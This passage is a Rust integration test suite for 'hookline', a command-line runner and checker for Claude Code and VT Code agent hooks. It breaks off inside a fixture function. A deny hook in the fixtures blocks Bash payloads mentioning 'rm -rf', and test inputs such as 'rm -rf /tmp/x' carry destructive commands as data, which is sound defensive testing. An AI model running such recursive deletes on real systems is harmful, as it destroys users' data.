//! The `hookline` command, run as a built binary: every subcommand's exit
//! statuses and output (text and JSON), cases files, check's errors and
//! warnings, and the trust round trip against a temporary store.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{json, Value};

const BIN: &str = env!("CARGO_BIN_EXE_hookline");

/// A scratch directory: HOME and XDG_CONFIG_HOME point inside it, so no test
/// reads or writes the user's trust store.
struct Sandbox {
    dir: tempfile::TempDir,
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {}", self.stdout))
    }
}

impl Sandbox {
    fn new() -> Sandbox {
        let s = Sandbox { dir: tempfile::tempdir().unwrap() };
        std::fs::create_dir_all(s.path().join("home")).unwrap();
        std::fs::create_dir_all(s.path().join("ws")).unwrap();
        s
    }
    fn path(&self) -> &Path {
        self.dir.path()
    }
    fn ws(&self) -> PathBuf {
        self.path().join("ws")
    }
    fn write(&self, name: &str, text: &str) -> PathBuf {
        let p = self.path().join(name);
        if let Some(d) = p.parent() {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(&p, text).unwrap();
        p
    }
    fn write_json(&self, name: &str, v: &Value) -> PathBuf {
        self.write(name, &v.to_string())
    }
    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(BIN);
        c.args(args)
            .current_dir(self.path())
            .env("HOME", self.path().join("home"))
            .env("XDG_CONFIG_HOME", self.path().join("home").join(".config"))
            .env_remove("HOOKLINE_TRUST_STORE")
            .env_remove("CLICOLOR_FORCE")
            .env_remove("NO_COLOR");
        c
    }
    fn run(&self, args: &[&str]) -> Run {
        self.run_with(self.cmd(args), None)
    }
    fn run_stdin(&self, args: &[&str], stdin: &str) -> Run {
        self.run_with(self.cmd(args), Some(stdin))
    }
    fn run_with(&self, mut c: Command, stdin: Option<&str>) -> Run {
        c.stdin(if stdin.is_some() { Stdio::piped() } else { Stdio::null() })
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = c.spawn().expect("spawn hookline");
        if let Some(s) = stdin {
            child.stdin.take().unwrap().write_all(s.as_bytes()).unwrap();
        }
        let out: Output = child.wait_with_output().unwrap();
        Run {
            code: out.status.code().expect("hookline exited by a signal"),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A Claude-dialect config: Bash is denied when the payload mentions rm -rf,
/// every tool gets a context line, and an Edit-only hook never matches Bash.
fn claude_config(sb: &Sandbox) -> PathBuf {
    sb.write_json(
        "hooks.json",
        &json!({"hooks": {"PreToolUse": [
            {"matcher": "Bash", "hooks": [{"type": "command",
              "command": "grep -q 'rm -rf' && { echo 'no recursive deletes' >&2; exit 2; }; exit 0"}]},
            {"matcher": "Edit", "hooks": [{"type": "command", "command": "echo edit-hook"}]},
            {"hooks": [{"type": "command",
              "command": "cat >/dev/null; echo '{\"hookSpecificOutput\":{\"additionalContext\":\"checked by policy\"}}'"}]}
        ]}}),
    )
}

const BASH_RM: &str = r#"{"tool_name":"Bash","tool_input":{"command":"rm -rf /tmp/x"}}"#;
const BASH_LS: &str = r#"{"tool_name":"Bash","tool_input":{"command":"ls"}}"#;

#[test]
fn run_denied_exits_2_with_the_reason_on_stderr() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "--config", s(&cfg), "--input", "-", "--format", "json"], BASH_RM);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_eq!(r.stderr.trim(), "no recursive deletes");
    assert_eq!(r.json()["decision"], "deny");
}

#[test]
fn run_trace_prints_a_timeline_on_stderr_one_line_per_hook() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "slow.json",
        &json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": "sleep 0.3"},
            {"type": "command", "command": "exit 1"},
            {"type": "command", "command": "true"}
        ]}]}}),
    );
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json", "--trace"], BASH_LS);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json()["hooks"].as_array().unwrap().len(), 3, "stdout is still the outcome");
    let lines: Vec<&str> = r.stderr.lines().collect();
    assert!(
        lines[0].starts_with("trace ") && lines[0].contains("PreToolUse") && lines[0].contains("3 hook(s)"),
        "{}",
        r.stderr
    );
    let line_of = |cmd: &str| {
        *lines.iter().find(|l| l.ends_with(cmd)).unwrap_or_else(|| panic!("no line for {cmd}: {}", r.stderr))
    };
    let took = |line: &str| -> f64 {
        let fields: Vec<&str> = line.split_whitespace().collect();
        assert!(fields[0].starts_with('+'), "{line}");
        fields[2].parse().unwrap()
    };
    assert!(took(line_of("sleep 0.3")) >= 300.0, "{}", r.stderr);
    assert!(took(line_of("true")) < 300.0, "{}", r.stderr);
    assert!(line_of("exit 1").contains("failed: exit"), "{}", r.stderr);
    assert!(line_of("true").contains("exit 0"), "{}", r.stderr);

    let r = sb.run_stdin(
        &["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json", "--trace"],
        r#"{"tool_name":"Write","tool_input":{}}"#,
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stderr.trim(), "trace: no hook ran");
}

#[test]
fn run_proceed_exits_0_and_json_format_prints_the_outcome() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"], BASH_LS);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    assert_eq!(o["decision"], "continue");
    assert_eq!(o["additional_context"], json!(["checked by policy"]));
    assert!(o["hooks"].as_array().unwrap().iter().all(|h| h["exit_code"] == 0), "{o}");
}

#[test]
fn run_without_format_prints_json_when_stdout_is_not_a_terminal() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-"], BASH_LS);
    assert_eq!(r.code, 0);
    assert_eq!(r.json()["decision"], "continue");
}

#[test]
fn run_text_summary_shows_every_hook_matched_or_not() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "text"], BASH_RM);
    assert_eq!(r.code, 2);
    let t = &r.stdout;
    assert!(t.contains("PreToolUse DENY"), "{t}");
    assert!(t.contains("no match") && t.contains("echo edit-hook"), "the Edit hook is listed as unmatched: {t}");
    assert!(t.contains("hooks.PreToolUse[1].hooks[0]"), "{t}");
    assert!(t.contains("exit 2"), "{t}");
    assert!(t.contains(" ms"), "durations are shown: {t}");
    assert!(t.contains("decision: deny") && t.contains("reason:   no recursive deletes"), "{t}");
    assert!(!t.contains('\x1b'), "no colour when stdout is not a terminal: {t:?}");

    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "text"], BASH_LS);
    assert_eq!(r.code, 0);
    assert!(r.stdout.contains("context:  checked by policy"), "{}", r.stdout);
}

#[test]
fn run_colour_follows_clicolor_force_and_no_color_wins() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let args = ["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "text"];
    let mut c = sb.cmd(&args);
    c.env("CLICOLOR_FORCE", "1");
    let r = sb.run_with(c, Some(BASH_LS));
    assert!(r.stdout.contains('\x1b'), "forced colour: {:?}", r.stdout);
    let mut c = sb.cmd(&args);
    c.env("CLICOLOR_FORCE", "1").env("NO_COLOR", "1");
    let r = sb.run_with(c, Some(BASH_LS));
    assert!(!r.stdout.contains('\x1b'), "NO_COLOR disables colour: {:?}", r.stdout);
}

#[test]
fn run_quiet_prints_nothing_but_keeps_status_and_reason() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["--quiet", "run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"], BASH_RM);
    assert_eq!(r.code, 2);
    assert_eq!(r.stdout, "");
    assert_eq!(r.stderr.trim(), "no recursive deletes");
}

#[test]
fn run_claude_format_speaks_the_claude_code_hook_protocol() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "allow.json",
        &json!({"PreToolUse": [{"matcher": "Read", "hooks": [{"command":
            "echo '{\"hookSpecificOutput\":{\"permissionDecision\":\"allow\",\"permissionDecisionReason\":\"reads are fine\"}}'"}]}]}),
    );
    let input =
        r#"{"session_id":"abc","tool_name":"Read","tool_input":{"file_path":"x"},"hook_event_name":"PreToolUse"}"#;
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "claude"], input);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    assert_eq!(o["hookSpecificOutput"]["hookEventName"], "PreToolUse");
    assert_eq!(o["hookSpecificOutput"]["permissionDecision"], "allow");
    assert_eq!(o["hookSpecificOutput"]["permissionDecisionReason"], "reads are fine");

    // A deny is exit 2 with the reason on stderr and nothing on stdout.
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "claude"], BASH_RM);
    assert_eq!((r.code, r.stdout.as_str(), r.stderr.trim()), (2, "", "no recursive deletes"));
}

#[test]
fn run_uses_the_payload_session_id() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "sid.json",
        &json!({"SessionStart": [{"hooks": [{"command": "cat >/dev/null; echo \"sid=$HOOKLINE_SESSION_ID\""}]}]}),
    );
    let r = sb.run_stdin(
        &["run", "SessionStart", "-c", s(&cfg), "--input", "-", "--format", "json"],
        r#"{"session_id":"from-payload"}"#,
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json()["additional_context"], json!(["sid=from-payload"]));
}

#[test]
fn run_accepts_snake_case_event_names() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "pre_tool_use", "-c", s(&cfg), "--input", "-", "--format", "json"], BASH_RM);
    assert_eq!(r.code, 2);
}

#[test]
fn run_fires_named_events_by_their_config_key() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "named.json",
        &json!({"PostCompact": [{"matcher": "manual", "hooks": [{"command": "cat >/dev/null; echo compacted"}]}]}),
    );
    let args = ["run", "PostCompact", "-c", s(&cfg), "--input", "-", "--format", "json"];
    let r = sb.run_stdin(&args, r#"{"matcher_value":"manual"}"#);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    assert_eq!(o["hooks"].as_array().unwrap().len(), 1, "{o}");
    assert_eq!(o["messages"][0]["text"], "compacted");
    let r = sb.run_stdin(&args, r#"{"matcher_value":"auto"}"#);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json()["hooks"], json!([]), "the matcher is tested against matcher_value");

    let r = sb.run_stdin(&["explain", "PostCompact", "-c", s(&cfg), "--input", "-"], r#"{"matcher_value":"manual"}"#);
    assert!(r.stdout.contains("1 would run") && r.stdout.contains("runs by name"), "{}", r.stdout);
}

#[test]
fn run_skips_a_malformed_claude_entry_names_it_in_text_format_and_runs_the_rest() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "bad.json",
        &json!({"PreToolUse": [{"hooks": [{"type": "command"}, {"type": "command", "command": "echo kept >&2; exit 2"}]}]}),
    );
    let r = sb.run_stdin(
        &["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"],
        r#"{"tool_name":"Bash"}"#,
    );
    assert_eq!(r.code, 2, "the remaining hook denies: {}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("\"decision\":\"deny\""), "{}", r.stdout);
    assert_eq!(r.stderr.trim(), "kept", "in the JSON format stderr is the deny reason only");
    // The text format names the skipped entry on stderr.
    let r = sb.run_stdin(
        &["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "text"],
        r#"{"tool_name":"Bash"}"#,
    );
    assert!(r.stderr.contains("hooks.PreToolUse[0].hooks[0] must specify a command"), "{}", r.stderr);
    // A VT Code configuration still rejects the file.
    let vt = sb.write_json("bad_vt.json", &json!({"lifecycle": {"pre_tool_use": [{"hooks": [{"type": "command"}]}]}}));
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&vt), "--input", "-"], r#"{"tool_name":"Bash"}"#);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("hooks.pre_tool_use[0].hooks[0] must specify a command"), "{}", r.stderr);
}

#[test]
fn run_bad_input_exits_1() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-"], "{not json");
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("not valid JSON"), "{}", r.stderr);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-"], "[1]");
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("must be a JSON object"), "{}", r.stderr);
    let r = sb.run(&["run", "PreToolUse", "-c", s(&cfg), "--input", "missing.json"]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("missing.json"), "{}", r.stderr);
}

#[test]
fn run_merges_configs_of_one_dialect_in_order() {
    let sb = Sandbox::new();
    let ctx = |t: &str| json!({"SessionStart": [{"hooks": [{"command": format!("cat >/dev/null; echo {t}")}]}]});
    let a = sb.write_json("a.json", &ctx("first"));
    let b = sb.write_json("b.json", &ctx("second"));
    let r = sb.run(&["run", "SessionStart", "-c", s(&a), "-c", s(&b), "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json()["additional_context"], json!(["first", "second"]));
    let r = sb.run(&["run", "SessionStart", "-c", s(&b), "-c", s(&a), "--format", "json"]);
    assert_eq!(r.json()["additional_context"], json!(["second", "first"]));
}

#[test]
fn run_combines_configs_of_different_dialects_each_read_in_its_own() {
    let sb = Sandbox::new();
    let a = claude_config(&sb);
    let b = sb.write(
        "vt.toml",
        "[hooks.lifecycle]\npre_tool_use = [{ matcher = \"Bash\", hooks = [{ command = \"echo vt-ran >&2; exit 0\" }] }]\n",
    );
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&a), "-c", s(&b), "--input", "-", "--format", "json"], BASH_LS);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    let reports = o["hooks"].as_array().unwrap();
    assert!(reports.iter().any(|h| h["command"].as_str().unwrap_or("").contains("vt-ran")), "{o}");
    assert!(reports.len() >= 2, "both files' hooks ran: {o}");
}

#[test]
fn run_gated_skips_unapproved_commands_until_trust_approve() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let store = sb.path().join("store").join("trust.json");
    let (ws, cfgp, st) = (sb.ws(), cfg.clone(), store.clone());
    let args = |extra: &[&'static str]| -> Vec<String> {
        let mut v: Vec<String> = ["run", "PreToolUse", "-c", s(&cfgp), "-w", s(&ws), "--store", s(&st), "--input", "-"]
            .iter()
            .map(|a| a.to_string())
            .collect();
        v.extend(extra.iter().map(|a| a.to_string()));
        v
    };
    let gated = args(&["--gated", "--format", "json"]);
    let gated: Vec<&str> = gated.iter().map(String::as_str).collect();
    let r = sb.run_stdin(&gated, BASH_RM);
    assert_eq!(r.code, 0, "an unapproved gated config cannot deny: {}", r.stderr);
    let o = r.json();
    assert!(o["hooks"].as_array().unwrap().iter().all(|h| h["skipped"] == "not_approved"), "{o}");

    let r = sb.run(&["trust", "approve", "-c", s(&cfg), "-w", s(&sb.ws()), "--store", s(&store)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let r = sb.run_stdin(&gated, BASH_RM);
    assert_eq!(r.code, 2, "approved: the deny hook runs: {}", r.stdout);
}

#[test]
fn check_passes_the_demo_config() {
    let sb = Sandbox::new();
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/demo/hooks.json");
    let r = sb.run(&["check", s(&demo)]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("ok (15 hooks, 0 warnings)"), "{}", r.stdout);
}

/// Claude Code skips a malformed entry and loads the rest (a host does
/// too); `check` still reports each skipped entry as an error, naming it.
#[test]
fn check_reports_every_entry_a_host_would_skip_as_an_error_naming_it() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "ws/.claude/settings.json",
        &json!({"hooks": {
            "PreToolUse": [{"matcher": "Bash", "hooks": [
                {"type": "command", "command": "true"},
                {"type": "command"},
                {"type": "webhook", "url": "http://x"}
            ]}],
            "Stop": [{"matcher": "(", "hooks": [{"type": "command", "command": "true"}]}]
        }}),
    );
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    for entry in ["hooks.PreToolUse[0].hooks[1]", "hooks.PreToolUse[0].hooks[2]", "hooks.Stop[0]"] {
        assert!(
            r.stdout.lines().any(|l| l.contains("error: ") && l.contains(&format!(" {entry}"))),
            "{entry} is not reported as an error:\n{}",
            r.stdout
        );
    }
    assert!(!r.stdout.contains("hooks[1]: hooks.PreToolUse"), "the entry path is said once:\n{}", r.stdout);
}

#[test]
fn check_error_exits_1_with_the_entry_path() {
    let sb = Sandbox::new();
    let good = claude_config(&sb);
    let bad = sb.write_json("bad.json", &json!({"hooks": {"Stop": [{"hooks": []}]}}));
    let r = sb.run(&["check", s(&good), s(&bad)]);
    assert_eq!(r.code, 1);
    assert!(r.stdout.contains("hooks.Stop[0] must define at least one hook command"), "{}", r.stdout);
    assert!(r.stdout.contains("hooks.json: ok"), "the good file is still reported: {}", r.stdout);
    let vt = sb
        .write("bad.toml", "[hooks.lifecycle]\npre_tool_use = [{ matcher = \"(\", hooks = [{ command = \"x\" }] }]\n");
    let r = sb.run(&["check", s(&vt)]);
    assert_eq!(r.code, 1);
    assert!(r.stdout.contains("Invalid matcher in hooks.pre_tool_use[0]"), "{}", r.stdout);
}

#[test]
fn check_warns_on_likely_mistakes_but_passes() {
    let sb = Sandbox::new();
    sb.write("ws/hooks/plain.sh", "#!/bin/sh\nexit 0\n"); // not executable
    let exe = sb.write("ws/hooks/ok.sh", "#!/bin/sh\nexit 0\n");
    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
    let cfg = sb.write_json(
        "ws/.claude/settings.json",
        &json!({"hooks": {
            "PreToolUse": [
                {"matcher": "Bash(git *)", "hooks": [{"command": "./hooks/ok.sh"}]},
                {"matcher": "bash", "hooks": [{"command": "./hooks/ok.sh"}]},
                {"matcher": "Bash|Edit", "hooks": [{"command": "$CLAUDE_PROJECT_DIR/hooks/ok.sh"}]},
                {"matcher": "mcp__memory__.*", "hooks": [{"command": "sh hooks/ok.sh"}]},
                {"matcher": "Write", "hooks": [{"command": "./hooks/plain.sh"}]},
                {"matcher": "Read", "hooks": [{"command": "python3 hooks/missing.py"}]},
                {"matcher": "Grep", "hooks": [{"command": "definitely-not-a-program-hookline --x"}]}
            ],
            "preToolUse": [{"hooks": [{"command": "true"}]}],
            "Stop": [{"hooks": [{"command": "true", "if": "Bash(git *)"}]}]
        }}),
    );
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 1, "hooks that can never run fail: {}", r.stdout);
    for never_runs in
        ["error: hooks.PreToolUse[4].hooks[0]", "error: hooks.PreToolUse[5].hooks[0]", "error: hooks.preToolUse"]
    {
        assert!(r.stdout.contains(never_runs), "{never_runs}: {}", r.stdout);
    }
    assert!(
        r.stdout.contains("warning: hooks.PreToolUse[1].matcher"),
        "a likely mistake stays a warning: {}",
        r.stdout
    );
    let r = sb.run(&["check", "--warn-only", s(&cfg)]);
    assert_eq!(r.code, 0, "--warn-only: warnings do not fail: {}", r.stdout);
    let t = &r.stdout;
    assert!(t.contains("hooks.PreToolUse[0].matcher \"Bash(git *)\" is Claude permission-rule syntax"), "{t}");
    assert!(t.contains("\"if\": \"Bash(git *)\""), "{t}");
    assert!(t.contains("hooks.PreToolUse[1].matcher \"bash\" can never match a known tool name"), "{t}");
    assert!(t.contains("did you mean \"Bash\""), "{t}");
    assert!(!t.contains("PreToolUse[2]") && !t.contains("PreToolUse[3]"), "good matchers and commands: {t}");
    assert!(t.contains("hooks.PreToolUse[4].hooks[0]") && t.contains("plain.sh is not executable"), "{t}");
    assert!(t.contains("hooks.PreToolUse[5].hooks[0]") && t.contains("missing.py does not exist"), "{t}");
    assert!(t.contains("`definitely-not-a-program-hookline` is not found on PATH"), "{t}");
    assert!(t.contains("unknown event key `preToolUse`") && t.contains("did you mean `PreToolUse`?"), "{t}");
    assert!(t.contains("hooks.Stop[0].hooks[0]: `if` \"Bash(git *)\" on Stop never holds"), "{t}");
    assert!(t.contains("hooks, 7 warnings)"), "{t}");

    let r = sb.run(&["check", "--strict", s(&cfg)]);
    assert_eq!(r.code, 1, "--strict fails on warnings: {}", r.stdout);
}

#[test]
fn explain_says_what_would_run_without_running_anything() {
    let sb = Sandbox::new();
    let marker = sb.path().join("ran");
    let cfg = sb.write_json(
        "explain.json",
        &json!({"PreToolUse": [
            {"matcher": "Bash", "hooks": [{"command": format!("touch {}", marker.display())}]},
            {"matcher": ".*Edit", "hooks": [{"command": format!("touch {}", marker.display())}]}
        ]}),
    );
    let r = sb.run_stdin(&["explain", "PreToolUse", "-c", s(&cfg), "--input", "-"], r#"{"tool_name":"NotebookEdit"}"#);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let t = &r.stdout;
    assert!(t.contains("2 configured hooks, 1 would run"), "{t}");
    assert!(t.contains("Claude Code exact tool name \"Bash\""), "{t}");
    assert!(t.contains("Claude Code regex, unanchored: .*Edit"), "{t}");
    assert!(t.contains("tool_name = \"NotebookEdit\" -> match"), "{t}");
    assert!(t.contains("ungated"), "{t}");
    assert!(!marker.exists(), "explain ran a hook");

    let r = sb.run_stdin(
        &[
            "explain",
            "PreToolUse",
            "-c",
            s(&cfg),
            "--input",
            "-",
            "--gated",
            "--store",
            s(&sb.path().join("t.json")),
            "--format",
            "json",
        ],
        r#"{"tool_name":"Bash"}"#,
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    assert_eq!(o["approved"], false);
    assert_eq!(o["hooks"][0]["matched"], true);
    assert_eq!(o["hooks"][0]["would_run"], false, "gated and not approved: {o}");
    assert_eq!(o["hooks"][1]["matched"], false);
    assert!(!marker.exists());
}

#[test]
fn explain_uses_the_vtcode_anchored_rule() {
    let sb = Sandbox::new();
    let cfg = sb.write(
        "vt.toml",
        "[hooks.lifecycle]\npre_tool_use = [{ matcher = \"Edit\", hooks = [{ command = \"true\" }] }]\n",
    );
    let r =
        sb.run_stdin(&["explain", "pre_tool_use", "-c", s(&cfg), "--input", "-"], r#"{"tool_name":"NotebookEdit"}"#);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("VT Code regex, anchored: ^(?:Edit)$"), "{}", r.stdout);
    assert!(r.stdout.contains("0 would run"), "{}", r.stdout);
}

fn cases_fixture(sb: &Sandbox) -> PathBuf {
    claude_config(sb);
    sb.write_json(
        "cases.json",
        &json!({"config": "hooks.json", "cases": [
            {"name": "rm is denied", "event": "PreToolUse", "input": {"tool_name": "Bash", "tool_input": {"command": "rm -rf x"}},
             "expect": {"decision": "deny", "blocked": true, "reason_contains": "recursive"}},
            {"name": "ls gets context", "event": "PreToolUse", "input": {"tool_name": "Bash", "tool_input": {"command": "ls"}},
             "expect": {"decision": "continue", "context_contains": "policy"}},
            {"name": "wrong on purpose", "event": "PreToolUse", "input": {"tool_name": "Bash", "tool_input": {"command": "ls"}},
             "expect": {"decision": "allow", "blocked": true, "reason_contains": "because"}},
            {"name": "bad input is an expected error", "event": "PreToolUse", "input": {},
             "expect": {"error_contains": "tool_name"}}
        ]}),
    )
}

#[test]
fn test_reports_each_case_and_fails_on_any_failure() {
    let sb = Sandbox::new();
    let cases = cases_fixture(&sb);
    let r = sb.run(&["test", s(&cases)]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    let t = &r.stdout;
    assert!(t.contains("PASS rm is denied"), "{t}");
    assert!(t.contains("PASS ls gets context"), "{t}");
    assert!(t.contains("PASS bad input is an expected error"), "{t}");
    assert!(
        t.contains(
            "FAIL wrong on purpose: expected decision \"allow\", got \"continue\"; expected blocked true, got false"
        ),
        "{t}"
    );
    // Values print as JSON, as the cases file writes them (`null`, not `None`).
    assert!(t.contains("expected a reason containing \"because\", got null"), "{t}");
    assert!(t.trim_end().ends_with("3 passed, 1 failed"), "{t}");

    let r = sb.run(&["--quiet", "test", s(&cases)]);
    assert!(!r.stdout.contains("PASS"), "--quiet shows failures only: {}", r.stdout);
    assert!(r.stdout.contains("FAIL wrong on purpose"));
}

#[test]
fn test_accepts_toml_cases_and_passes() {
    let sb = Sandbox::new();
    claude_config(&sb);
    let cases = sb.write(
        "cases.toml",
        r#"config = ["hooks.json"]

[[cases]]
name = "rm is denied"
event = "PreToolUse"
input = { tool_name = "Bash", tool_input = { command = "rm -rf x" } }
expect = { decision = "deny", blocked = true }
"#,
    );
    let r = sb.run(&["test", s(&cases)]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("1 passed, 0 failed"), "{}", r.stdout);
}

#[test]
fn test_rejects_a_misspelled_expectation() {
    let sb = Sandbox::new();
    claude_config(&sb);
    let cases = sb.write_json(
        "typo.json",
        &json!({"config": "hooks.json", "cases": [{"name": "x", "event": "Stop", "expect": {"blockd": true}}]}),
    );
    let r = sb.run(&["test", s(&cases)]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("unknown field `blockd`"), "{}", r.stderr);
}

#[test]
fn test_passes_the_demo_cases() {
    let sb = Sandbox::new();
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/demo/cases.json");
    let r = sb.run(&["test", s(&demo)]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains(" passed, 0 failed"), "{}", r.stdout);
}

#[test]
fn digest_matches_the_documented_example() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "vt.json",
        &json!({"lifecycle": {"pre_tool_use": [{"matcher": "Bash", "hooks": [{"command": "./check.sh", "timeout_seconds": 10}]}]}}),
    );
    let r = sb.run(&["digest", "-c", s(&cfg), "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    assert_eq!(o["digest"], "dab52b17fd76003bdb76b274ea78a3c98e23aee6eadbe388d34d5d946751bc89");
    assert_eq!(
        o["previews"],
        json!([{"type": "command", "event": "pre_tool_use", "matcher": "Bash", "command": "./check.sh", "timeout_seconds": 10,
                "pins": [], "env": {"inherit": true, "scrub": [], "set": []}}])
    );
    let r = sb.run(&["digest", "-c", s(&cfg)]);
    assert!(r.stdout.starts_with("digest dab52b17"), "{}", r.stdout);
    assert!(r.stdout.contains("pre_tool_use [Bash]: ./check.sh (timeout 10s)"), "{}", r.stdout);
}

#[test]
fn digest_finds_the_workspace_configs() {
    let sb = Sandbox::new();
    sb.write_json("ws/.claude/settings.json", &json!({"hooks": {"Stop": [{"hooks": [{"command": "true"}]}]}}));
    let r = sb.run(&["digest", "-w", s(&sb.ws())]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("stop: true"), "{}", r.stdout);
    let empty = sb.path().join("home");
    let r = sb.run(&["digest", "-w", s(&empty)]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("no hooks config found"), "{}", r.stderr);
}

#[test]
fn trust_round_trip_approve_list_revoke() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let store = sb.path().join("state").join("trust.json");
    let ws = std::fs::canonicalize(sb.ws()).unwrap();
    let r = sb.run(&["trust", "list", "--store", s(&store)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("0 approval(s)"), "{}", r.stdout);

    let r = sb.run(&["trust", "approve", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("approving these commands:"), "the commands are shown first: {}", r.stdout);
    let digest = sb.run(&["--quiet", "digest", "-c", s(&cfg)]).stdout.trim().to_owned();
    assert_eq!(digest.len(), 64);
    let mode = std::fs::metadata(&store).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);

    let r = sb.run(&["trust", "list", "--store", s(&store), "--format", "json"]);
    let o = r.json();
    assert_eq!(o["approvals"][0]["workspace"], s(&ws));
    assert_eq!(o["approvals"][0]["digest"], digest.as_str());

    let r = sb.run(&["trust", "revoke", "-w", s(&ws), "--store", s(&store)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("revoked"), "{}", r.stdout);
    let r = sb.run(&["trust", "list", "--store", s(&store), "--format", "json"]);
    assert_eq!(r.json()["approvals"], json!([]));
    let r = sb.run(&["trust", "revoke", "-w", s(&ws), "--store", s(&store)]);
    assert!(r.stdout.contains("had no approval"), "{}", r.stdout);
}

/// A workspace whose hook runs a script: the pinned-file round trip.
fn pinned_config(sb: &Sandbox) -> (PathBuf, PathBuf) {
    let script = sb.write("ws/.claude/hooks/guard.sh", "#!/bin/sh\nexit 0\n");
    let cfg = sb.write_json(
        "ws/.claude/settings.json",
        &json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/guard.sh"}]}]}}),
